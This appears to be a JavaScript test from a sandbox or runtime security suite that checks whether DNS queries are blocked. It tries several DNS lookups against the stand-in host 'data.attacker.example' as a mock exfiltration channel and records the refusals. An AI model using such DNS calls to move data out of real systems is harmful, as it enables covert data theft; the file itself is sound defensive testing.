import dns from "node:dns/promises";

export const attempt = {
  tries: "to exfiltrate data with DNS queries",
  blockedBecause: "the runtime sends no DNS queries",
  ends: { says: "\\[" },
  allowedHosts: ["http://{witness}"],
};

export default async () => {
  const ways = [
    () => dns.resolve4("data.attacker.example"),
    () => dns.lookup("data.attacker.example"),
    () => dns.resolveTxt("data.attacker.example"),
    () => dns.reverse("127.0.0.1"),
  ];
  const refusals = [];
  for (const way of ways) {
    try {
      return `got through: ${JSON.stringify(await way())}`;
    } catch (error) {
      refusals.push(error.code ?? error.message);
    }
  }
  return refusals;
};
